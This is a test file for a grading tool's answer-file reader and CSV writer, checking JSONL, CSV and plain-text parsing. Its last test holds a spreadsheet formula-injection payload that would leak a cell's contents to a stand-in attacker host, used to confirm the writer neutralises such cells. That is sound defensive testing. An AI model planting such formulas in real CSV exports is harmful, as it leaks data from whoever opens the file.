import { describe, expect, it } from "vitest";
// @ts-expect-error plain JS module of the web front
import { csvCell, csvRows, readAnswersFile } from "../../../public/js/answers-file.js";

describe("reading answers from a file", () => {
  it("reads the datasets' JSONL: one question per line, answers with their ids", () => {
    const line = (id: number, answers: unknown[]) =>
      JSON.stringify({ question_id: `q${id}`, question: `Question ${id}?`, reference: "Ref", max_score: 5, min_score: 0, answers });
    const text = `${line(1, [
      { id: "7", text: "first", human_score: 4.5 },
      { id: 9, text: "second" },
    ])}\n\n${line(2, [{ text: "no id" }])}\n`;
    expect(readAnswersFile(text, "mohler.jsonl")).toEqual({
      ok: true,
      questions: [
        {
          questionId: "q1",
          question: "Question 1?",
          reference: "Ref",
          maxScore: 5,
          answers: [
            { id: "7", text: "first" },
            { id: "9", text: "second" },
          ],
        },
        { questionId: "q2", question: "Question 2?", reference: "Ref", maxScore: 5, answers: [{ id: "a1", text: "no id" }] },
      ],
    });
  });

  it("says which JSONL line is wrong", () => {
    expect(readAnswersFile('{"answers": []}\n{"answers": [', "x.jsonl")).toEqual({
      ok: false,
      reason: expect.stringMatching(/^line 2 is not valid JSON/),
    });
    expect(readAnswersFile('{"question": "q"}', "x.jsonl")).toEqual({ ok: false, reason: 'line 1 has no "answers" list' });
    expect(readAnswersFile('{"answers": [{"id": 1}]}', "x.jsonl")).toEqual({ ok: false, reason: 'line 1, answers[0] has no "text"' });
    expect(readAnswersFile("  \n", "x.jsonl")).toEqual({ ok: false, reason: "the file is empty" });
  });

  it("reads CSV with quoted commas, quotes and newlines, by header name", () => {
    const csv = 'text,id\r\n"Push, then pop",s1\r\n"He said ""LIFO""\nand left",s2\n,\nplain,\n';
    expect(readAnswersFile(csv, "answers.csv")).toEqual({
      ok: true,
      questions: [
        {
          questionId: null,
          question: null,
          reference: null,
          maxScore: null,
          answers: [
            { id: "s1", text: "Push, then pop" },
            { id: "s2", text: 'He said "LIFO"\nand left' },
            { id: "a3", text: "plain" },
          ],
        },
      ],
    });
    expect(readAnswersFile("id,answer\nx,hello", "")).toMatchObject({ ok: true, questions: [{ answers: [{ id: "x", text: "hello" }] }] });
    expect(readAnswersFile("id,score\n1,2", "a.csv")).toEqual({ ok: false, reason: 'the CSV header needs a "text" column' });
    expect(csvRows('"open')).toEqual({ ok: false, reason: "a quoted CSV field is never closed" });
  });

  it("reads anything else as one answer per line", () => {
    expect(readAnswersFile("first\n\n  second  \n", "notes.txt")).toMatchObject({
      ok: true,
      questions: [
        {
          answers: [
            { id: "a1", text: "first" },
            { id: "a2", text: "second" },
          ],
        },
      ],
    });
  });

  it("writes CSV cells that read back the same", () => {
    const cells = ["plain", "a,b", 'say "hi"', "two\nlines", "", null, 3.5];
    const line = cells.map(csvCell).join(",");
    expect(csvRows(line)).toEqual({ ok: true, rows: [["plain", "a,b", 'say "hi"', "two\nlines", "", "", "3.5"]] });
  });

  // issue 11, defect 10: the grade and share pages' CSV wrote answers such as =HYPERLINK(...), @SUM(...)
  // and the real answer "-Easier to debugg" as plain cells, which a spreadsheet runs as formulas
  it("neutralises cells a spreadsheet would run as formulas: a leading ' and quotes (OWASP CSV injection)", () => {
    const leak = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    expect(csvCell(leak)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(csvCell("@SUM(A1:A9)")).toBe(`"'@SUM(A1:A9)"`);
    expect(csvCell("-Easier to debugg")).toBe(`"'-Easier to debugg"`);
    expect(csvCell("+1 for stacks")).toBe(`"'+1 for stacks"`);
    expect(csvCell("\t=1+1")).toBe(`"'\t=1+1"`);
    expect(csvCell("\r=1+1")).toBe(`"'\r=1+1"`);
    // read back, the text is all there behind the quote mark
    expect(csvRows([leak, "-x"].map(csvCell).join(","))).toEqual({ ok: true, rows: [[`'${leak}`, "'-x"]] });
    // only the first character counts; numbers (ours: ranks, scores) stay numbers
    expect(csvCell("a = b + c")).toBe("a = b + c");
    expect(csvCell(-1.5)).toBe("-1.5");
    expect(csvCell(3)).toBe("3");
  });
});
